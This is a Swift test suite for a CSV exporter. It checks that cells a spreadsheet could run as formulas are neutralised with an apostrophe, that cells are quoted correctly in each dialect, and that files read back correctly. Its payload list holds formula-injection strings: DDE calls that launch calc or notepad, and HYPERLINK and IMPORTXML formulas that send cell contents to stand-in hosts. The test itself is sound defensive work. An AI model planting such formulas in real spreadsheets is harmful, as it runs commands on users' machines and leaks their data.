import GantryFormats
import GantryModel
import Testing

@Suite("A CSV text")
struct CSVTextTests {
    static let payloads = [
        "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://x.example/?a=\"&A1,\"open\")", "=SUM(A1:A9)", "=", "==1",
        "=-1", "=\"a\"",
        "+1", "+45 12 34 56 78", "+cmd|' /C notepad'!'A1'", "+", "+=1", "++", "-1", "-2+3+cmd|' /C calc'!A0", "-",
        "--1", "-5.00", "- list item",
        "@SUM(1,2)", "@", "@handle", "@=1", "\t=1", "\t", "\tx", "\r=1", "\r", "\r\n=1", "\0=1", "\0", " =1", "   =1",
        " +1", "  -1", " @x", " \t=1",
        "'=1", "''=1", "' =1", "'-1", "' '+1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}x", " \u{FF1D}1",
        "'\u{FF1D}1",
        "=1,2;3", "=\"x\",\"y\"\r\n=2", "-1\n-2", "=æøå", "@\u{1F3D7}", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/c\";\"x\")",
    ]

    static let harmless = [
        "", "a", "a=1", "1", "1-2", "12", "x'=1", "'", "''", "'hello", " ", "  hello", "æ=1", "(=1)", "#=1", "\"=1\"",
        "/=1", ".5", "\u{FF1E}1",
        "\u{FF}=1", "\n", "\nx", "a\tb", "a\rb", "a\r\nb", "a\"b", "\"", "\"\"", "a,b", "a;b", ",", ";", "æøå 漢字 🏗️",
        "\u{FEFF}x", "x\0y",
    ]

    @Test(
        "that a spreadsheet could run gets one apostrophe, whose removal gives the original; Python reads it back",
        arguments: CSVDialect.all)
    func guarded(dialect: CSVDialect) throws {
        var file: [UInt8] = []
        for payload in Self.payloads { file += dialect.cell(payload) + [0x0D, 0x0A] }
        let rows = try pythonCells(file, dialect)
        #expect(rows.count == Self.payloads.count)
        for (payload, row) in zip(Self.payloads, rows) {
            #expect(
                row.count == 1 && row.first?.unicodeScalars.first == "'", "\(payload.debugDescription) became \(row)")
            #expect(row.first.map(withoutGuard).map { Array($0.utf8) } == Array(payload.utf8))
        }
    }

    @Test("that no spreadsheet would run stays as it is", arguments: CSVDialect.all) func harmless(
        dialect: CSVDialect
    ) throws {
        // A cell after it keeps an empty row apart from none.
        let rows = try pythonCells(
            Self.harmless.flatMap { dialect.cell($0) + [dialect.delimiter, 0x78, 0x0D, 0x0A] }, dialect)
        #expect(rows.map { Array(($0.first ?? "").utf8) } == Self.harmless.map { Array($0.utf8) })
        #expect(rows.allSatisfy { $0.count == 2 })
    }

    @Test(
        "is in quotes only where that is needed",
        arguments: [
            ("a,b", #""a,b""#, "a,b", #""a,b""#), ("a;b", "a;b", #""a;b""#, "a;b"),
            ("a\"b", #""a""b""#, #""a""b""#, #""a""b""#),
            ("a\nb", "\"a\nb\"", "\"a\nb\"", "\"a\nb\""), ("a\rb", "\"a\rb\"", "\"a\rb\"", "\"a\rb\""),
            (" a ", " a ", " a ", " a "),
            ("", "", "", ""), ("\"", "\"\"\"\"", "\"\"\"\"", "\"\"\"\""), ("=a", "'=a", "'=a", "'=a"),
            ("=a,b", "\"'=a,b\"", "'=a,b", "\"'=a,b\""),
            ("a.b", "a.b", "a.b", "a.b"), ("7,5", #""7,5""#, "7,5", #""7,5""#),
        ])
    func quoting(text: String, machine: String, danish: String, english: String) {
        #expect(String(decoding: CSVDialect.machine.cell(text), as: UTF8.self) == machine)
        #expect(String(decoding: CSVDialect.excelDanish.cell(text), as: UTF8.self) == danish)
        #expect(String(decoding: CSVDialect.excelEnglish.cell(text), as: UTF8.self) == english)
    }

    @Test("of any kind is read back by Python, and nothing else is changed", arguments: 0..<3 as Range<UInt64>)
    func randomTexts(seed: UInt64) throws {
        var numbers = SeededGenerator(seed: seed)
        let alphabet: [Unicode.Scalar] = Array("=+-@\t\r\n\0 '\",;aæ漢🏗\u{FF1D}\u{FF20}\u{FEFF}\u{A0}1".unicodeScalars)
        let texts = (0..<1_500).map { _ in
            var text = ""
            for _ in 0..<Int.random(in: 0...8, using: &numbers) {
                text.unicodeScalars.append(alphabet.randomElement(using: &numbers) ?? "x")
            }
            return text
        }
        for dialect in CSVDialect.all {
            let rows = try pythonCells(
                texts.flatMap { dialect.cell($0) + [dialect.delimiter, 0x78, 0x0D, 0x0A] }, dialect)
            try #require(rows.count == texts.count)
            for (text, row) in zip(texts, rows) {
                let expected = looksLikeFormula(text) ? "'" + text : text
                #expect(
                    row.count == 2 && Array(row[0].utf8) == Array(expected.utf8),
                    "\(text.debugDescription) became \(row)")
            }
        }
    }

    @Test("dialects are found by their names") func dialects() {
        #expect(CSVDialect.all.map(\.name) == ["machine", "excel-da", "excel-en"])
        #expect(CSVDialect.named("excel-da") == .excelDanish && CSVDialect.named("machine") == .machine)
        #expect(CSVDialect.named("excel") == nil)
    }
}

@Suite("A CSV table")
struct CSVTableTests {
    @Test("guards texts, never numbers, and spells numbers as its dialect does") func cells() {
        var table = CSVTable(dialect: .excelDanish)
        table.appendHeader(["Name", "=Sum", "a;b"])
        #expect(table.take() == [0xEF, 0xBB, 0xBF] + Array("Name;'=Sum;\"a;b\"\r\n".utf8))
        table.append([
            .text("-1"), .integer(-1), .decimal(-1_500_000_000, .fixed(2)), .empty, .decimal(-1, .fixed(2)),
            .decimal(7_333_333_333, .exact),
        ])
        #expect(String(decoding: table.take(), as: UTF8.self) == "'-1;-1;-1,50;;0,00;7,333333333\r\n")
        #expect(table.take() == [])
    }
}

@Suite("A CSV row")
struct CSVRowTests {
    @Test(
        "is split into its cells, quotes and byte order mark gone",
        arguments: [
            ("a,b,c\r\nd,e\r\n", ["a", "b", "c"]), ("\u{FEFF}a,b", ["a", "b"]),
            ("\"a,b\",\"c\"\"d\",\"\"\r\n", ["a,b", "c\"d", ""]),
            ("\"a\r\nb\",c\r\n", ["a\r\nb", "c"]), ("", [""]), (",", ["", ""]), ("a;b\n", ["a;b"]),
            ("\"æ\",ø\rx", ["æ", "ø"]),
        ])
    func cells(text: String, cells: [String]) {
        #expect(CSVRow.cells(Array(text.utf8), dialect: .machine) == cells)
    }

    @Test("gives back any headings that were written", arguments: CSVDialect.all) func roundTrip(dialect: CSVDialect) {
        let headings = ["Name", "Hours, normal", "a;b", "say \"x\"", "two\r\nlines", "", "æøå"]
        let encoder = CSVRecordEncoder<CSVSample>(
            dialect: dialect, columns: headings.map { CSVSample.column("number", heading: $0) })
        #expect(CSVRow.cells(encoder.header(), dialect: dialect) == headings)
    }

    @Test("has numbers with the decimal mark of its dialect and no other") func numbers() {
        #expect(CSVDialect.machine.nano("-7.5") == -7_500_000_000 && CSVDialect.machine.nano("7,5") == nil)
        #expect(CSVDialect.excelDanish.nano("-7,5") == -7_500_000_000 && CSVDialect.excelDanish.nano("7.5") == nil)
        #expect(CSVDialect.all.allSatisfy { $0.nano("") == nil && $0.nano("1.234,5") == nil })
    }
}
